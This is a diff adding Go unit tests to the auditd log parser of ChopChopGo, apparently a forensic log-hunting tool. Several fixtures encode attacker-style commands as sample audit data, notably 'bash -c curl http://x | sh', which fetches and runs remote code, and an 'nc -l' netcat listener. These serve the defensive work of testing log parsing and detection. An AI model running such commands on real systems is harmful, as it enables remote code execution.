@@ -2,11 +2,16 @@ package auditd
 
 import (
 	"bufio"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/M00NLIG7/ChopChopGo/maps/chop"
+	"github.com/M00NLIG7/ChopChopGo/maps/output"
 )
 
 const testdataDir = "../../testdata"
@@ -48,6 +53,19 @@ func TestParseEventsStandard(t *testing.T) {
 	}
 }
 
+func TestParseEventsCompressed(t *testing.T) {
+	events, err := ParseEvents(filepath.Join(testdataDir, "auditd.log.zst"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(events) != 3 {
+		t.Fatalf("expected 3 correlated events from zstd log, got %d", len(events))
+	}
+	if events[0].Data["exe"] != "/bin/cat" {
+		t.Errorf("expected exe=/bin/cat, got %q", events[0].Data["exe"])
+	}
+}
+
 func TestParseEventsCorrelation(t *testing.T) {
 	tmp := t.TempDir()
 	f := filepath.Join(tmp, "corr.log")
@@ -89,6 +107,370 @@ func TestParseEventsCorrelation(t *testing.T) {
 	}
 }
 
+func TestParseEventsDecodesExecve(t *testing.T) {
+	tmp := t.TempDir()
+	f := filepath.Join(tmp, "execve.log")
+	// bash -c "curl http://x | sh" as auditd logs it: the argument with
+	// spaces is hex, and so is the NUL-separated proctitle.
+	content := "" +
+		"type=SYSCALL msg=audit(1000000000.000:1): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 pid=42 auid=1000 exe=\"/usr/bin/bash\"\n" +
+		"type=EXECVE msg=audit(1000000000.000:1): argc=3 a0=\"bash\" a1=\"-c\" a2=6375726C20687474703A2F2F78207C207368\n" +
+		"type=PROCTITLE msg=audit(1000000000.000:1): proctitle=62617368002D63006375726C20687474703A2F2F78207C207368\n" +
+		// A long argument split into chunks, with a hex and a quoted chunk.
+		"type=SYSCALL msg=audit(1000000001.000:2): syscall=59 a0=1 a1=2 a2=3 a3=4 pid=43 exe=\"/usr/bin/echo\"\n" +
+		"type=EXECVE msg=audit(1000000001.000:2): argc=2 a0=\"echo\" a1_len=11 a1[0]=68656C6C6F20 a1[1]=\"world\"\n" +
+		"type=PROCTITLE msg=audit(1000000001.000:2): proctitle=\"echo\"\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	events, err := ParseEvents(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(events) != 2 {
+		t.Fatalf("expected 2 events, got %d", len(events))
+	}
+	for key, want := range map[string]string{
+		"a0":          "bash",
+		"a1":          "-c",
+		"a2":          "curl http://x | sh",
+		"CommandLine": "bash -c curl http://x | sh",
+		"proctitle":   "bash -c curl http://x | sh",
+		"syscall":     "59",
+	} {
+		if got := events[0].Data[key]; got != want {
+			t.Errorf("%s: got %q, want %q", key, got, want)
+		}
+	}
+	if _, ok := events[0].Data["a3"]; ok {
+		t.Errorf("a3: the SYSCALL register should not survive an EXECVE with argc=3")
+	}
+	for key, want := range map[string]string{
+		"a1":          "hello world",
+		"a1_len":      "11",
+		"CommandLine": "echo hello world",
+		"proctitle":   "echo",
+	} {
+		if got := events[1].Data[key]; got != want {
+			t.Errorf("split argument %s: got %q, want %q", key, got, want)
+		}
+	}
+	if _, ok := events[1].Data["a1[0]"]; ok {
+		t.Errorf("chunks should be joined into a1, not kept")
+	}
+}
+
+func TestParseEventsKeepsEveryPath(t *testing.T) {
+	tmp := t.TempDir()
+	f := filepath.Join(tmp, "paths.log")
+	// touch "/tmp/evil dir/x.sh": the parent directory, then the created
+	// file, whose name has a space and is therefore hex.
+	content := "" +
+		"type=SYSCALL msg=audit(1000000000.000:5): syscall=257 success=yes items=2 pid=42 exe=\"/usr/bin/touch\"\n" +
+		"type=CWD msg=audit(1000000000.000:5): cwd=\"/root\"\n" +
+		"type=PATH msg=audit(1000000000.000:5): item=0 name=\"/tmp/\" inode=1 mode=041777 nametype=PARENT\n" +
+		"type=PATH msg=audit(1000000000.000:5): item=1 name=2F746D702F6576696C206469722F782E7368 inode=2 mode=0100644 nametype=CREATE\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	events, err := ParseEvents(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(events) != 1 || len(events[0].Paths) != 2 {
+		t.Fatalf("expected one event with two PATH records, got %+v", events)
+	}
+	e := events[0]
+	// The merged fields keep the first record, as before.
+	if e.Data["name"] != "/tmp/" || e.Data["nametype"] != "PARENT" {
+		t.Errorf("merged name/nametype: got %q/%q", e.Data["name"], e.Data["nametype"])
+	}
+	for name, want := range map[string]string{
+		"PATH[0].name":     "/tmp/",
+		"PATH[1].name":     "/tmp/evil dir/x.sh",
+		"PATH[1].nametype": "CREATE",
+		"PATH[1].mode":     "0100644",
+	} {
+		if got, _ := e.Select(name); got != want {
+			t.Errorf("Select(%s) = %v, want %q", name, got, want)
+		}
+	}
+	for _, name := range []string{"PATH[2].name", "PATH[1].missing", "PATH[x].name", "PATH[1]"} {
+		if v, ok := e.Select(name); ok {
+			t.Errorf("Select(%s) = %v, want no value", name, v)
+		}
+	}
+
+	records := e.Records()
+	if len(records) != 2 {
+		t.Fatalf("expected a record view per PATH, got %d", len(records))
+	}
+	for key, want := range map[string]string{"type": "PATH", "name": "/tmp/evil dir/x.sh", "nametype": "CREATE", "exe": "/usr/bin/touch", "cwd": "/root"} {
+		if got, _ := records[1].Select(key); got != want {
+			t.Errorf("second record %s: got %v, want %q", key, got, want)
+		}
+	}
+}
+
+func TestDecodeHex(t *testing.T) {
+	for in, want := range map[string]string{
+		"2F62696E2F7368": "/bin/sh",
+		"(null)":         "(null)",
+		"ABC":            "ABC",
+		"2f62":           "2f62",
+		"":               "",
+	} {
+		if got := decodeHex(in); got != want {
+			t.Errorf("decodeHex(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestStreamEventsInterpretsFields(t *testing.T) {
+	tmp := t.TempDir()
+	passwd := filepath.Join(tmp, "passwd")
+	if err := os.WriteFile(passwd, []byte("root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	users, err := LoadPasswd(passwd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := filepath.Join(tmp, "interpret.log")
+	content := "" +
+		// A raw log: everything is interpreted.
+		"type=SYSCALL msg=audit(1000000000.000:1): arch=c000003e syscall=59 success=yes exit=0 pid=42 auid=1000 uid=0 euid=0 exe=\"/usr/bin/curl\"\n" +
+		"type=PATH msg=audit(1000000000.000:1): item=0 name=\"/usr/bin/curl\" ouid=0 nametype=NORMAL\n" +
+		// An ENRICHED log: the logged names win over users.
+		"type=SYSCALL msg=audit(1000000001.000:2): arch=c00000b7 syscall=56 success=no exit=-13 pid=43 auid=1000 uid=1000 exe=\"/usr/bin/cat\"\x1dARCH=aarch64 SYSCALL=openat AUID=\"bob\" UID=\"bob\"\n" +
+		// Unknown architecture, unset auid and an old numeric res.
+		"type=USER_LOGIN msg=audit(1000000002.000:3): pid=44 uid=0 auid=4294967295 res=0\n" +
+		"type=SYSCALL msg=audit(1000000003.000:4): arch=deadbeef syscall=59 auid=1001 exit=-9999\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	var events []AuditEvent
+	err = StreamEvents(f, users, chop.TimeRange{}, func(e AuditEvent) error {
+		events = append(events, e)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(events) != 4 {
+		t.Fatalf("expected 4 events, got %d", len(events))
+	}
+	for i, want := range []map[string]string{
+		{"ARCH": "x86_64", "SYSCALL": "execve", "AUID": "alice", "UID": "root", "EUID": "root", "EXIT": "0", "syscall": "59", "auid": "1000"},
+		{"ARCH": "aarch64", "SYSCALL": "openat", "AUID": "bob", "UID": "bob", "EXIT": "EACCES", "exe": "/usr/bin/cat", "auid": "1000"},
+		{"UID": "root", "AUID": "unset", "RES": "failed"},
+		{"SYSCALL": "59", "AUID": "1001", "EXIT": "-9999"},
+	} {
+		for key, value := range want {
+			if got := events[i].Data[key]; got != value {
+				t.Errorf("event %d %s: got %q, want %q", i, key, got, value)
+			}
+		}
+	}
+	if _, ok := events[3].Data["ARCH"]; ok {
+		t.Errorf("an unknown arch should not be named")
+	}
+	if got := events[0].Paths[0]["OUID"]; got != "root" {
+		t.Errorf("PATH OUID: got %q, want root", got)
+	}
+	if got := events[0].Result().User; got != "alice" {
+		t.Errorf("User column: got %q, want alice", got)
+	}
+}
+
+func TestExitName(t *testing.T) {
+	for in, want := range map[string]string{
+		"-13":                  "EACCES",
+		"0":                    "0",
+		"3":                    "3",
+		"-9999":                "-9999",
+		"-9223372036854775808": "-9223372036854775808",
+		"abc":                  "abc",
+	} {
+		if got := exitName(in); got != want {
+			t.Errorf("exitName(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestLoadPasswd(t *testing.T) {
+	tmp := t.TempDir()
+	f := filepath.Join(tmp, "passwd")
+	content := "# comment\nroot:x:0:0:root:/root:/bin/bash\n\nalice:x:1000:1000::/home/alice:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	users, err := LoadPasswd(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(users) != 2 || users["0"] != "root" || users["1000"] != "alice" {
+		t.Errorf("unexpected users %v", users)
+	}
+
+	if err := os.WriteFile(f, []byte("alice:x:abc:1000::/:/bin/sh\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadPasswd(f); err == nil || !strings.Contains(err.Error(), ":1:") {
+		t.Errorf("expected an invalid uid error with its line, got %v", err)
+	}
+}
+
+func TestParseEventsMergesUserMsgFields(t *testing.T) {
+	line := "type=USER_LOGIN msg=audit(1000000000.000:1): pid=100 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" acct=616C69636520736D697468 addr=10.0.0.5 terminal=/dev/pts/0 res=success'"
+	data := parseLine(line)
+	for key, want := range map[string]string{
+		"uid":      "0",
+		"exe":      "/usr/sbin/sshd",
+		"acct":     "alice smith",
+		"addr":     "10.0.0.5",
+		"terminal": "/dev/pts/0",
+		"res":      "success",
+	} {
+		if got := data[key]; got != want {
+			t.Errorf("%s: got %q, want %q", key, got, want)
+		}
+	}
+}
+
+func TestStreamCorrelatesSessionsAndProcesses(t *testing.T) {
+	tmp := t.TempDir()
+	f := filepath.Join(tmp, "session.log")
+	content := "" +
+		"type=USER_LOGIN msg=audit(1000000000.000:1): pid=100 uid=0 auid=1000 ses=5 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.5 terminal=/dev/pts/0 res=success'\n" +
+		"type=SYSCALL msg=audit(1000000001.000:2): arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=200 auid=1000 ses=5 exe=\"/usr/bin/bash\"\n" +
+		"type=SYSCALL msg=audit(1000000002.000:3): arch=c000003e syscall=59 success=yes exit=0 ppid=200 pid=300 auid=1000 ses=5 exe=\"/usr/bin/curl\"\n" +
+		"type=SYSCALL msg=audit(1000000003.000:4): arch=c000003e syscall=59 success=yes exit=0 ppid=300 pid=400 auid=1000 ses=5 exe=\"/usr/bin/sh\"\n" +
+		// bash forks a subshell that never execs; its child runs id.
+		"type=SYSCALL msg=audit(1000000004.000:5): arch=c000003e syscall=56 success=yes exit=350 ppid=100 pid=200 auid=1000 ses=5 exe=\"/usr/bin/bash\"\n" +
+		"type=SYSCALL msg=audit(1000000005.000:6): arch=c000003e syscall=59 success=yes exit=0 ppid=350 pid=360 auid=1000 ses=5 exe=\"/usr/bin/id\"\n" +
+		// A reused session id with another auid is not the same login.
+		"type=SYSCALL msg=audit(1000000006.000:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=500 auid=1001 ses=5 exe=\"/usr/bin/ls\"\n" +
+		// Older records spell a successful login res=1.
+		"type=USER_LOGIN msg=audit(1000000007.000:8): pid=101 uid=0 auid=1002 ses=6 msg='op=login id=1002 exe=\"/usr/sbin/sshd\" hostname=? addr=10.0.0.6 terminal=/dev/pts/1 res=1'\n" +
+		"type=SYSCALL msg=audit(1000000008.000:9): arch=c000003e syscall=59 success=yes exit=0 ppid=101 pid=600 auid=1002 ses=6 exe=\"/usr/bin/whoami\"\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	var results []output.ScanResult
+	opts := chop.Options{}
+	opts.SetSetting("auditd", Config{Correlate: true})
+	err := Source{}.Stream(f, opts, func(e chop.Event) error {
+		results = append(results, e.Result())
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(results) != 9 {
+		t.Fatalf("expected 9 events, got %d", len(results))
+	}
+	for i, want := range []string{"sshd", "sshd bash", "sshd bash curl", "sshd bash curl sh", "sshd bash", "sshd bash bash id", "ls", "sshd", "sshd whoami"} {
+		if got := strings.Join(results[i].Ancestry, " "); got != want {
+			t.Errorf("event %d ancestry: got %q, want %q", i, got, want)
+		}
+	}
+	login := results[3].Login
+	if login == nil {
+		t.Fatal("the sh event should carry its session's login")
+	}
+	if *login != (output.Login{Session: "5", User: "1000", Addr: "10.0.0.5", Terminal: "/dev/pts/0", Time: "2001-09-09T01:46:40Z"}) {
+		t.Errorf("unexpected login %+v", *login)
+	}
+	if results[6].Login != nil {
+		t.Errorf("an event of another auid should not get the session's login, got %+v", *results[6].Login)
+	}
+	if login := results[8].Login; login == nil || login.Session != "6" || login.Addr != "10.0.0.6" {
+		t.Errorf("a res=1 login should be attached to its session, got %+v", login)
+	}
+
+	// Without -correlate nothing is added.
+	err = Source{}.Stream(f, chop.Options{}, func(e chop.Event) error {
+		if r := e.Result(); r.Ancestry != nil || r.Login != nil {
+			t.Errorf("uncorrelated event got context: %+v", r)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestStreamEventsOrderAndStop(t *testing.T) {
+	var seqs []string
+	err := StreamEvents(filepath.Join(testdataDir, "auditd.log"), nil, chop.TimeRange{}, func(e AuditEvent) error {
+		seqs = append(seqs, e.Data["seq"])
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	want := []string{"24287", "24288", "24289"}
+	if strings.Join(seqs, ",") != strings.Join(want, ",") {
+		t.Errorf("stream order: got %v, want %v", seqs, want)
+	}
+
+	// An error returned by the callback must stop the stream and surface as-is.
+	stop := errors.New("stop")
+	calls := 0
+	err = StreamEvents(filepath.Join(testdataDir, "auditd.log"), nil, chop.TimeRange{}, func(AuditEvent) error {
+		calls++
+		return stop
+	})
+	if err != stop {
+		t.Errorf("expected callback error to be returned, got %v", err)
+	}
+	if calls != 1 {
+		t.Errorf("expected stream to stop after 1 event, got %d calls", calls)
+	}
+}
+
+func TestStreamEventsTimeRange(t *testing.T) {
+	// The fixture's events are at 14:36:03, 14:36:40 and 14:38:20 UTC.
+	rng := chop.TimeRange{
+		Since: time.Date(2013, 3, 28, 14, 36, 30, 0, time.UTC),
+		Until: time.Date(2013, 3, 28, 14, 37, 0, 0, time.UTC),
+	}
+	var seqs []string
+	err := StreamEvents(filepath.Join(testdataDir, "auditd.log"), nil, rng, func(e AuditEvent) error {
+		seqs = append(seqs, e.Data["seq"])
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Join(seqs, ",") != "24288" {
+		t.Errorf("expected only the in-range event 24288, got %v", seqs)
+	}
+}
+
+func TestStreamFollowFlushesWhenIdle(t *testing.T) {
+	// A followed log never reaches EOF, so grouped events must be flushed
+	// once the follower has caught up instead of waiting for the window to
+	// fill.
+	stop := make(chan struct{})
+	opts := chop.Options{Follow: true, Stop: stop, Range: chop.TimeRange{Since: time.Unix(0, 0)}}
+	var seqs []string
+	err := Source{}.Stream(filepath.Join(testdataDir, "auditd.log"), opts, func(e chop.Event) error {
+		seqs = append(seqs, e.(AuditEvent).Data["seq"])
+		if len(seqs) == 3 {
+			close(stop)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(seqs) != 3 {
+		t.Errorf("expected 3 events, got %v", seqs)
+	}
+}
+
 func TestParseEventsSkipsNonTypeLines(t *testing.T) {
 	tmp := t.TempDir()
 	f := filepath.Join(tmp, "test.log")
@@ -148,6 +530,39 @@ func TestParseEventsBadTimestampDoesNotPanic(t *testing.T) {
 	_ = events
 }
 
+func TestParseEventsBadArgcDoesNotPanic(t *testing.T) {
+	tmp := t.TempDir()
+	f := filepath.Join(tmp, "argc.log")
+	// Negative and absurdly large argc values must neither panic nor
+	// allocate for arguments the record does not hold.
+	content := "" +
+		"type=EXECVE msg=audit(1364481400.000:1): argc=-1 a0=\"nc\"\n" +
+		"type=EXECVE msg=audit(1364481400.000:2): argc=9223372036854775807 a0=\"nc\" a1=\"-l\"\n"
+	if err := os.WriteFile(f, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	defer func() {
+		if r := recover(); r != nil {
+			t.Errorf("ParseEvents panicked on a bad argc: %v", r)
+		}
+	}()
+
+	events, err := ParseEvents(f)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(events) != 2 {
+		t.Fatalf("expected 2 events, got %d", len(events))
+	}
+	if _, ok := events[0].Data["CommandLine"]; ok {
+		t.Errorf("a negative argc should not produce a CommandLine")
+	}
+	if got := events[1].Data["CommandLine"]; got != "nc -l" {
+		t.Errorf("CommandLine: got %q, want the arguments present", got)
+	}
+}
+
 func TestParseEventsTimestampConversion(t *testing.T) {
 	tmp := t.TempDir()
 	f := filepath.Join(tmp, "ts.log")
@@ -470,3 +885,64 @@ func BenchmarkParseEventsManySeqs(b *testing.B) {
 		}
 	}
 }
+
+func TestSourceRegistered(t *testing.T) {
+	src, ok := chop.Lookup("auditd")
+	if !ok {
+		t.Fatal("auditd source should register itself with chop")
+	}
+	if src.DefaultMapping() != "mappings/auditd.yml" {
+		t.Errorf("unexpected default mapping %q", src.DefaultMapping())
+	}
+}
+
+func TestResultColumns(t *testing.T) {
+	e := AuditEvent{Type: "SYSCALL", Data: map[string]string{
+		"timestamp": "2013-03-28T14:36:03Z", "auid": "1000", "exe": "/bin/cat", "pid": "3538",
+	}}
+	r := e.Result()
+	if r.User != "1000" || r.Exe != "/bin/cat" || r.PID != "3538" || r.Timestamp == "" {
+		t.Errorf("unexpected result columns: %+v", r)
+	}
+}
+
+func TestSourceHasField(t *testing.T) {
+	for name, want := range map[string]bool{
+		"a4":             true,
+		"a1[0]":          true,
+		"old-auid":       true,
+		"SYSCALL":        true,
+		"OAUID":          true,
+		"PATH[1].name":   true,
+		"PATH[x].name":   false,
+		"PATH[1]":        false,
+		"a1[x]":          false,
+		"Image":          false,
+		"TargetFilename": false,
+		"":               false,
+	} {
+		if got := (Source{}).HasField(name); got != want {
+			t.Errorf("HasField(%q) = %v, want %v", name, got, want)
+		}
+	}
+}
+
+func TestDetect(t *testing.T) {
+	head, err := os.ReadFile(filepath.Join(testdataDir, "auditd.log"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !Detect(head) {
+		t.Error("Detect should recognise the auditd fixture")
+	}
+	for _, notAudit := range []string{
+		"",
+		"Mar  1 10:00:01 host sshd[1]: Accepted password for root\n",
+		"type=but no audit token here\n",
+		"\x7fELF\x02\x01\x01",
+	} {
+		if Detect([]byte(notAudit)) {
+			t.Errorf("Detect(%q) should be false", notAudit)
+		}
+	}
+}